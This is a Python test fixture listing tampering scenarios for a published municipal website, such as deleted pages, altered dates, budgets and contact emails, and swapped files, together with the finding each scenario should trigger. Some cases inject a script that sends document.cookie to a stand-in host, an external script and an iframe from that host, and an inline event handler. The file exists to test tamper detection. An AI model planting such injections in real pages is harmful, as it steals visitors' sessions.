"""What may happen to pages and files of a published site after its build, and the finding that each must cause."""

from tests.published import spoiling as make
from tests.published.spoiling import Altered
from trangxa.render.assets import assets

NEWS = "tin-tuc/2026/11/duong-hoa.html"
OLD_NEWS = "tin-tuc/2026/10/ra-quan.html"
DOCUMENT = "van-ban/2026/12-kh-ubnd.html"
OFFICIAL = "can-bo/bich.html"
PROJECT = "du-an/du-an-1.html"
PDF = "van-ban/2026/tep/a.pdf"
PICTURE = "di-san/anh/dinh.2.jpg"
SHEET, PROGRAM = (assets()[name].url for name in ("trangxa.css", "trangxa.js"))


_EVIL = '<script>fetch("//la.example/"+document.cookie)</script>'

OF_PAGES = (
    Altered("trang-bi-go", make.removed(NEWS), "published-missing-page", NEWS, "Làm đường hoa"),
    Altered(
        "trang-danh-sach-bi-go",
        make.removed("van-ban/nam-2026.html"),
        "published-missing-page",
        "van-ban/nam-2026.html",
    ),
    Altered("trang-trang", make.emptied(NEWS), "published-empty-page", NEWS),
    Altered("mat-phan-chinh", make.without(NEWS, "<main", "</main>"), "published-empty-page", NEWS),
    Altered("mat-than-bai", make.without(OLD_NEWS, "<div data-body>", "</div>"), "empty-body", OLD_NEWS),
    Altered("mat-tieu-de", make.without(NEWS, "<h1 ", "</h1>"), "published-empty-page", NEWS),
    Altered(
        "sua-mot-chu", make.edited(NEWS, "Đã xong", "Đã hủy"), "published-altered-page", NEWS, "bị sửa sau khi dựng"
    ),
    Altered(
        "sua-ngay-dang", make.edited(NEWS, "2026-11-20", "2026-11-10"), "published-altered-page", NEWS, "“2026-11-10”"
    ),
    Altered(
        "sua-ngay-hien", make.edited(NEWS, "20/11/2026</time>", "10/11/2026</time>"), "published-shown-differs", NEWS
    ),
    Altered(
        "sua-kinh-phi",
        make.edited(PROJECT, "1.250.000.000 đồng", "250.000.000 đồng"),
        "published-shown-differs",
        PROJECT,
    ),
    Altered(
        "mat-dien-thoai", make.without(OFFICIAL, '<tr><th scope="row">Điện thoại', "</tr>"), "missing-key", OFFICIAL
    ),
    Altered(
        "thu-rieng", make.edited(OFFICIAL, "@binhthanh.thainguyen.gov.vn", "@gmail.com"), "official-contacts", OFFICIAL
    ),
    Altered("tep-trong", make.emptied(PDF), "empty-file", PDF),
    Altered("tep-bi-go", make.removed(PDF), "missing-file", DOCUMENT),
    Altered("tep-bi-thay", make.added(PDF, b"%PDF-1.4 khac"), "published-altered-file", PDF),
    Altered("anh-bi-go", make.removed(PICTURE), "missing-file", "di-san/dinh.html"),
    Altered("kieu-dang-bi-go", make.removed(SHEET), "published-missing-file", SHEET),
    Altered("ma-lenh-bi-thay", make.added(PROGRAM, b"alert(1)"), "published-altered-file", PROGRAM),
    Altered(
        "lien-ket-gay",
        make.edited(NEWS, "2026/10/ra-quan.html", "2026/10/khong-co.html"),
        "published-broken-link",
        "tin-tuc/2026/10/khong-co.html",
    ),
    Altered(
        "neo-gay", make.edited(OLD_NEWS, 'id="ket-qua"', 'id="khac"'), "published-broken-link", OLD_NEWS, "#ket-qua"
    ),
    Altered(
        "trang-la",
        make.copied(NEWS, "tin-tuc/2026/11/tin-gia.html"),
        "published-unlisted-page",
        "tin-tuc/2026/11/tin-gia.html",
    ),
    Altered(
        "tep-la",
        make.added("van-ban/2026/tep/la.pdf", b"%PDF-1.4"),
        "published-unlisted-file",
        "van-ban/2026/tep/la.pdf",
    ),
    Altered("chen-ma-lenh", make.edited(NEWS, "</h1>", f"</h1>{_EVIL}"), "published-active-content", NEWS),
    Altered(
        "ma-lenh-noi-khac",
        make.edited(NEWS, "</body>", '<script src="//la.example/a.js"></script></body>'),
        "published-active-content",
        NEWS,
    ),
    Altered(
        "chinh-sach-noi-rong",
        make.edited(NEWS, "script-src 'self'", f"script-src 'self' 'sha256-{'A' * 43}='"),
        "published-active-content",
        NEWS,
    ),
    Altered("thuoc-tinh-chay", make.edited(NEWS, "<h1 ", '<h1 onclick="x()" '), "published-active-content", NEWS),
    Altered(
        "khung-la",
        make.edited(NEWS, "</h1>", '</h1><iframe src="//la.example/"></iframe>'),
        "published-active-content",
        NEWS,
    ),
    Altered("mat-dac-ta", make.without(NEWS, '<meta name="DC.creator"', ">"), "engine-provides", NEWS, "DC.creator"),
    Altered(
        "mat-nut-in",
        make.without(NEWS, '<button type="button" data-tx-print', "</button>"),
        "engine-provides",
        NEWS,
        "nút in",
    ),
    Altered(
        "chi-muc-tim-thieu",
        make.edited("tim-kiem/d-*.js", f'"{NEWS}"', '"khac.html"'),
        "engine-provides",
        "tim-kiem/meta.js",
        NEWS,
    ),
    Altered("mat-lien-he", make.removed("lien-he.html"), "published-no-office", "lien-he.html"),
    Altered(
        "ma-cu",
        make.added(NEWS, "<h1>Tin tức</h1><main>Đường hoa</main>".encode("utf-16")),
        "published-unreadable-page",
        NEWS,
        "UTF-8",
    ),
)
